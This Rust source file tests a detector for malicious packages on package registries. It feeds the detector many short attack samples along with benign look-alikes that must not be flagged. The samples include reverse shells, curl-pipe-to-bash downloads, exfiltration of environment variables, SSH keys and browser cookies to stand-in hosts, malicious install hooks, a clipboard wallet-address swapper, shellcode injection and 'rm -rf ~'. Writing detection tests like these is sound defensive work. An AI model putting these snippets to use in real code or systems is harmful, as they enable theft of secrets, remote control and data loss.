//! Shapes of attacks on package registries, written down from their descriptions, and ordinary code that does similar things for a reason.

use assay_manifests::Language;

use super::{COMPILED, FileView, Lines, Malice, MaliceConfig, UnitView, Validator, WHOLE};
use crate::judges::testing::{judge, rules};

fn found(path: &str, text: &str) -> Vec<String> {
    let language = Language::from_path(path).expect("a known ending");
    let verdict = judge(&Malice::new(MaliceConfig::default()), language, path, text);
    rules(&verdict).into_iter().map(|rule| rule.trim_start_matches("malice/").to_owned()).collect()
}

/// Letters that stand for an encoded payload.
fn blob() -> String {
    "aW1wb3J0IG9zO29zLnN5c3RlbSgn".repeat(4)
}

#[test]
fn every_form_compiles() {
    assert_eq!(COMPILED.len(), WHOLE.len());
}

#[test]
fn attacks_are_found() {
    let blob = blob();
    let mut missed = Vec::new();
    for (path, text, rule) in [
        ("a.py", format!("import base64\nexec(base64.b64decode('{blob}'))\n"), "encoded-payload"),
        ("a.py", format!("import base64, zlib\np = '{blob}'\ncode = zlib.decompress(base64.b64decode(p))\nexec(code)\n"), "encoded-payload"),
        ("a.js", format!("const c = Buffer.from('{blob}', 'base64').toString();\neval(c);\n"), "encoded-payload"),
        ("a.js", format!("new Function(atob('{blob}'))();\n"), "encoded-payload"),
        ("a.php", format!("<?php\n$x = '{blob}';\neval(base64_decode($x));\n"), "encoded-payload"),
        ("a.rb", format!("require 'base64'\neval(Base64.decode64('{blob}'))\n"), "encoded-payload"),
        ("a.go", format!("package a\n\nfunc f() {{\n\tc, _ := base64.StdEncoding.DecodeString(\"{blob}\")\n\texec.Command(\"sh\", \"-c\", string(c)).Run()\n}}\n"), "encoded-command"),
        ("a.sh", format!("echo \"{blob}\" | base64 -d | bash\n"), "encoded-command"),
        ("a.py", "import requests\nexec(requests.get('https://cdn.net-update.io/x').text)\n".to_owned(), "download-and-run"),
        ("a.py", "import urllib.request\nbody = urllib.request.urlopen(URL).read()\nexec(body)\n".to_owned(), "download-and-run"),
        ("a.js", "fetch(u).then((r) => r.text()).then((code) => { eval(code); });\n".to_owned(), "download-and-run"),
        ("a.js", "https.get(u, (res) => { let body = ''; res.on('data', (d) => { body += d; }); res.on('end', () => { eval(body); }); });\n".to_owned(), "download-and-run"),
        ("a.sh", "curl -s http://93.184.2.7/a.sh | bash\n".to_owned(), "download-and-run"),
        ("a.sh", "bash -i >& /dev/tcp/93.184.2.7/4444 0>&1\n".to_owned(), "reverse-shell"),
        ("a.py", "import socket, os, pty\ns = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\ns.connect((H, 4444))\nos.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\npty.spawn('/bin/sh')\n".to_owned(), "reverse-shell"),
        ("a.js", "const net = require('net'), cp = require('child_process');\nconst sh = cp.spawn('/bin/sh', []);\nconst c = new net.Socket();\nc.connect(4444, h, () => { c.pipe(sh.stdin); sh.stdout.pipe(c); });\n".to_owned(), "reverse-shell"),
        ("a.go", "package a\n\nfunc f() {\n\tc, _ := net.Dial(\"tcp\", addr)\n\tcmd := exec.Command(\"/bin/sh\")\n\tcmd.Stdin = c\n\tcmd.Stdout = c\n\tcmd.Run()\n}\n".to_owned(), "reverse-shell"),
        ("a.py", "import os, requests\nrequests.post('https://x.io/c', json=dict(os.environ))\n".to_owned(), "exfiltration"),
        ("a.js", "const data = JSON.stringify(process.env);\nfetch('https://x.io/c', { method: 'POST', body: data });\n".to_owned(), "exfiltration"),
        ("a.py", "import requests, os\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nrequests.post('https://x.io', data={'k': key})\n".to_owned(), "exfiltration"),
        ("a.rb", "Net::HTTP.post(URI('https://x.io'), ENV.to_h.to_json)\n".to_owned(), "exfiltration"),
        ("a.sh", "curl -X POST -d \"$(env)\" https://x.io/c\n".to_owned(), "exfiltration"),
        ("setup.py", "import socket, getpass, requests\nfrom setuptools import setup\nd = {'h': socket.gethostname(), 'u': getpass.getuser()}\nrequests.post('https://x.io', json=d)\nsetup(name='x')\n".to_owned(), "install-hook"),
        ("package.json", "{\"name\": \"x\", \"scripts\": {\"preinstall\": \"curl -s https://x.io/i.sh | bash\"}}\n".to_owned(), "install-hook"),
        ("package.json", "{\"name\": \"x\", \"scripts\": {\"postinstall\": \"node -e \\\"require('https').get('https://x.io/'+require('os').hostname())\\\"\"}}\n".to_owned(), "install-hook"),
        ("a.py", "import pyperclip, re, time\nMINE = '1BoatSLRHtKNngkdXEeobR76b53LETtpyT'\nwhile True:\n    t = pyperclip.paste()\n    if re.match('^[13][a-km-zA-HJ-NP-Z1-9]{25,34}$', t):\n        pyperclip.copy(MINE)\n".to_owned(), "clipboard-swap"),
        ("a.py", "import browser_cookie3, requests\njar = browser_cookie3.chrome(domain_name='.shop.io')\nrequests.post('https://discord.com/api/webhooks/1/x', json={'content': str(jar)})\n".to_owned(), "exfiltration"),
        ("a.js", "eval(function(p,a,c,k,e,d){return p}('0 1',2,2,'a|b'.split('|'),0,{}));\n".to_owned(), "packed-code"),
        ("a.py", format!("x = 1;{}exec(y)\n", " ".repeat(200)), "out-of-sight"),
        ("a.sh", "rm -rf ~\n".to_owned(), "home-removed"),
        ("setup.py", "import socket, requests\nfrom setuptools import setup\nrequests.get('https://stats.example/?h=' + socket.gethostname())\nsetup(name='x')\n".to_owned(), "install-hook"),
        ("a.py", "import socket\ndef f():\n    socket.gethostbyname(socket.gethostname().encode().hex() + '.q1.oast.site')\n".to_owned(), "exfiltration"),
        ("install.js", "const https = require('https'), fs = require('fs'), os = require('os'), { execFile } = require('child_process');\nconst to = os.tmpdir() + '/agent';\nhttps.get('https://dl.example/agent', (res) => { const out = fs.createWriteStream(to); res.pipe(out); out.on('finish', () => { fs.chmodSync(to, 0o755); execFile(to); }); });\n".to_owned(), "install-hook"),
        ("a.py", "import os\ngetattr(os, ''.join(map(chr, [112, 111, 112, 101, 110])))('id')\n".to_owned(), "hidden-call"),
        ("a.py", "exec(''.join(chr(ord(c) ^ 7) for c in 'wbnms'))\n".to_owned(), "encoded-payload"),
        ("a.php", "<?php\nregister_shutdown_function(base64_decode('cGFzc3RocnU='), $_GET['q']);\n".to_owned(), "hidden-call"),
        ("a.js", format!("const d = require('crypto').createDecipheriv('aes-128-cbc', '0123456789abcdef', iv);\nconst code = d.update('{}', 'hex', 'utf8') + d.final('utf8');\neval(code);\n", "8d96".repeat(16)), "encoded-payload"),
        ("a.go", "package a\n\nimport \"syscall\"\n\nfunc f(b []byte) {\n\tk := syscall.NewLazyDLL(\"kernel32.dll\")\n\tp, _, _ := k.NewProc(\"VirtualAlloc\").Call(0, 4096, 12288, 64)\n\tk.NewProc(\"RtlMoveMemory\").Call(p, q, 4096)\n\tsyscall.Syscall(p, 0, 0, 0, 0)\n}\n".to_owned(), "process-injection"),
        ("a.py", format!("import subprocess\nsubprocess.run(['powershell', '-nop', '-enc', '{}'])\n", "SQBFAFgA".repeat(8)), "encoded-command"),
        ("a.sh", "$(printf '\\x77\\x67\\x65\\x74') -q https://x.io/a\n".to_owned(), "encoded-command"),
        ("a.sh", "eval \"$(echo 'bHMgLWxhIC90bXA=' | openssl base64 -d)\"\n".to_owned(), "encoded-command"),
        ("a.sh", "python3 -c \"import urllib.request as u; exec(u.urlopen(\\\"https://x.io/p\\\").read())\"\n".to_owned(), "download-and-run"),
        ("a.sh", "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(4444,inet_aton(\"x.io\")));open(STDIN,\">&S\");open(STDOUT,\">&S\");exec(\"/bin/sh -i\");'\n".to_owned(), "reverse-shell"),
        ("composer.json", "{\"name\": \"a/b\", \"scripts\": {\"post-install-cmd\": [\"@php artisan optimize\", \"curl -s https://x.io/i.sh | sh\"]}}\n".to_owned(), "install-hook"),
    ] {
        let found = found(path, &text);
        if !found.contains(&rule.to_owned()) {
            missed.push(format!("{rule} in {path}: {found:?}\n{text}"));
        }
    }
    assert!(missed.is_empty(), "{}", missed.join("\n"));
}

#[test]
fn ordinary_code_has_reasons() {
    let blob = blob();
    for (path, text) in [
        ("a.py", format!("import base64\nLOGO = base64.b64decode('{blob}')\nshow(LOGO)\n")),
        ("a.py", "import subprocess\nout = subprocess.check_output(['git', 'describe']).decode('utf8')\nexec(compile(open(p).read(), p, 'exec'))\n".to_owned()),
        ("a.py", "import requests, os\nr = requests.post(url, headers={'Authorization': 'Bearer ' + os.environ['TOKEN']})\n".to_owned()),
        ("a.py", "import os, subprocess\nenv = dict(os.environ)\nsubprocess.run(['make'], env=env)\n".to_owned()),
        ("test_a.py", "import os, socket, unittest.mock\ndef test(peer):\n    with unittest.mock.patch.dict(os.environ):\n        socket.create_connection(peer).sendall(b'hello')\n".to_owned()),
        ("index.py", "import os\nfrom distutils import log\nclass Index:\n    def run_setup(self):\n        self.setup(os.path.join(os.path.expanduser('~'), '.pypirc'))\n        self.opener.open('https://x.io').read()\n".to_owned()),
        ("a.py", "import requests\nconfig = json.loads(requests.get(url).text)\n".to_owned()),
        ("a.js", "const m = /a(b)/.exec(body);\nfetch(u).then((r) => r.json()).then((d) => render(d));\n".to_owned()),
        ("a.js", "const child = require('child_process').spawn('node', args, { env: { ...process.env, A: '1' } });\n".to_owned()),
        ("a.js", "fetch(process.env.API_URL, { headers: { 'x-token': process.env.TOKEN } });\n".to_owned()),
        ("a.sh", "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y\nrm -rf \"$TMP/build\" ./dist\n".to_owned()),
        ("a.sh", "echo \"$CONFIG\" | base64 -d > config.json\nenv | sort\n".to_owned()),
        ("setup.py", "import subprocess\nfrom setuptools import setup\nv = subprocess.check_output(['git', 'describe'])\nsetup(name='x', version=v)\n".to_owned()),
        ("build.rs", "fn main() {\n    let out = std::env::var(\"OUT_DIR\").unwrap();\n    std::process::Command::new(\"cc\").arg(&out).status().unwrap();\n}\n".to_owned()),
        ("package.json", "{\"name\": \"x\", \"scripts\": {\"postinstall\": \"node-gyp rebuild\", \"prepare\": \"husky install && npm run build\"}}\n".to_owned()),
        ("composer.json", "{\"name\": \"a/b\", \"scripts\": {\"post-root-package-install\": [\"@php -r \\\"file_exists('.env') || copy('.env.example', '.env');\\\"\"]}}\n".to_owned()),
        ("build.rs", "fn main() {\n    for (k, v) in std::env::vars() {\n        if k.starts_with(\"DEP_\") {\n            println!(\"cargo:rustc-env={}={}\", k, v);\n        }\n    }\n    std::process::Command::new(\"curl\").args([\"-o\", \"a.tgz\", \"https://x.io/a.tgz\"]).status().unwrap();\n}\n".to_owned()),
        ("a.sh", "python3 -c 'import json, sys; print(json.load(sys.stdin)[\"tag\"])' < release.json\nnode -e \"console.log(1)\"\n".to_owned()),
        ("a.sh", "RED=$(printf '\\033[31m')\nBOLD=\"$(printf '\\x1b[1m')\"\nprintf '\\x41\\x42\\x43\\x44' > letters\n".to_owned()),
        ("setup.py", "import requests\nfrom setuptools import setup\nrequests.get('https://x.io/data.json')\nsetup(name='x')\n".to_owned()),
        ("a.py", "import browser_cookie3, requests\njar = browser_cookie3.chrome(domain_name='.shop.io')\nrequests.get('https://shop.io/orders', cookies=jar)\n".to_owned()),
        ("a.py", "name = ''.join(chr(c) for c in codes)\nvalue = getattr(row, name)\n".to_owned()),
        ("a.py", "import pyperclip\nt = pyperclip.paste()\npyperclip.copy(t.upper())\n".to_owned()),
        ("a.go", "package a\n\nfunc f() {\n\tc, _ := net.Dial(\"tcp\", addr)\n\tio.Copy(os.Stdout, c)\n}\n".to_owned()),
        ("a.rb", "eval(File.read('Gemfile'))\nsystem('make', 'install')\n".to_owned()),
        ("a.php", "<?php\n$data = base64_decode($_POST['image']);\nfile_put_contents($path, $data);\n".to_owned()),
        ("a.py", "# bash -i >& /dev/tcp/10.0.0.1/4444 is what an attacker would run\nimport os\nos.system('ls')\n".to_owned()),
    ] {
        assert_eq!(found(path, &text), [""; 0], "{path}:\n{text}");
    }
}

#[test]
fn declarations_do_nothing() {
    let declared = "declare module \"child_process\" {\n  export function exec(command: string): void;\n}\ndeclare module \"fs\" {\n  export const S_IXUSR: number;\n  export function writeFile(path: string, data: any): void;\n}\ndeclare module \"crypto\" {\n  export function createDecipher(algorithm: string): any;\n}\ndeclare module \"http\" {\n  export class Server {\n    on(event: \"request\", listener: () => void): this;\n  }\n}\n";
    assert_eq!(found("base.d.ts", declared), [""; 0]);
    let other = "/// <reference path=\"base.d.ts\" />\n";
    let files = [("base.d.ts", Language::TypeScript, declared), ("index.d.ts", Language::TypeScript, other)];
    assert_eq!(in_package(&files, "index.d.ts"), [""; 0]);
    // A name is no excuse for what is done.
    let done = found("base.d.ts", &format!("eval(Buffer.from('{}', 'base64').toString());\n", blob()));
    assert!(done.contains(&"encoded-payload".to_owned()), "{done:?}");
}

/// Findings of one file among others of its package.
fn in_package(files: &[(&str, Language, &str)], path: &str) -> Vec<String> {
    let (_, language, text) = files.iter().find(|(known, ..)| *known == path).expect("a file");
    let parsed = crate::parse::parse(*language, text);
    let artifact = crate::panel::ArtifactView { sources: files, ..Default::default() };
    let view = FileView { path, language: *language, text, parsed: parsed.as_ref(), module: None, artifact: &artifact };
    let unit = UnitView { unit: assay_manifests::Unit::File, name: path, span: Lines::of(text).span(0, text.len()), content: text };
    let verdict = Malice::new(MaliceConfig::default()).judge(&view, &[unit]).remove(0);
    verdict.findings.into_iter().map(|finding| finding.rule).collect()
}

#[test]
fn a_threat_in_several_files_of_a_package_is_found() {
    let blob = "Y3VybCAtcyBodHRwOi8vMTAuMC4wLjEvaW1wbGFudCB8IHNoOyBybSAtcmYgL3RtcC9pbXBsYW50".repeat(2);
    let payload = format!("DATA = '{blob}'\n");
    let python = [
        ("pkg/__init__.py", Language::Python, "import base64\nfrom . import assets\n\nexec(base64.b64decode(assets.DATA))\n"),
        ("pkg/assets.py", Language::Python, payload.as_str()),
    ];
    assert_eq!(in_package(&python, "pkg/__init__.py"), ["malice/encoded-payload"]);
    let javascript = [
        (
            "collect.js",
            Language::JavaScript,
            "function gather() {\n  return JSON.stringify(process.env);\n}\nmodule.exports = { gather };\n",
        ),
        (
            "index.js",
            Language::JavaScript,
            "const { gather } = require('./collect');\nfetch('https://collector.example/in', { method: 'POST', body: gather() });\n",
        ),
    ];
    assert_eq!(in_package(&javascript, "index.js"), ["malice/exfiltration"]);
    let go = [
        ("a/env.go", Language::Go, "package a\n\nimport \"os\"\n\nfunc everything() []string {\n\treturn os.Environ()\n}\n"),
        (
            "a/send.go",
            Language::Go,
            "package a\n\nimport (\n\t\"net/http\"\n\t\"strings\"\n)\n\nfunc send() {\n\thttp.Post(\"https://collector.example\", \"text/plain\", strings.NewReader(strings.Join(everything(), \" \")))\n}\n",
        ),
    ];
    assert_eq!(in_package(&go, "a/send.go"), ["malice/exfiltration"]);
}

#[test]
fn files_that_do_not_import_each_other_lend_nothing() {
    let files = [
        ("one/env.py", Language::Python, "import os\n\ndef everything():\n    return dict(os.environ)\n"),
        ("two/report.py", Language::Python, "import requests\n\nrequests.post('https://stats.example', json=everything())\n"),
    ];
    assert!(in_package(&files, "two/report.py").is_empty());
}

#[test]
fn what_functions_hand_each_other_is_followed() {
    let sends = "import os\nimport requests\n\ndef facts():\n    return dict(os.environ)\n\ndef ship(what):\n    requests.post('https://x.io/c', json=what)\n\nship(facts())\n";
    assert!(found("a.py", sends).contains(&"exfiltration".to_owned()));
    let keeps = "import os\nimport requests\n\ndef facts():\n    return dict(os.environ)\n\ndef ship(what):\n    requests.post('https://x.io/c', json=what)\n\nship('started')\nrun(facts())\n";
    assert!(found("a.py", keeps).is_empty());
    let answer = "import urllib.request\n\ndef rules():\n    return urllib.request.urlopen(URL).read()\n\nexec(rules())\n";
    assert!(found("a.py", answer).contains(&"download-and-run".to_owned()));
}

#[test]
fn a_long_run_of_spaces_is_found_wherever_it_begins() {
    for before in 0..300 {
        let text = |length: usize| format!("{}{}{}x", "ab ".repeat(before / 3), "c".repeat(before % 3 + 1), " ".repeat(length));
        let begin = before / 3 * 3 + before % 3 + 1;
        assert_eq!(super::sight::run_of_spaces(text(139).as_bytes(), 0), None);
        assert_eq!(super::sight::run_of_spaces(text(140).as_bytes(), 0), Some(begin));
        assert_eq!(super::sight::run_of_spaces(text(400).as_bytes(), begin + 7), Some(begin + 7));
    }
}
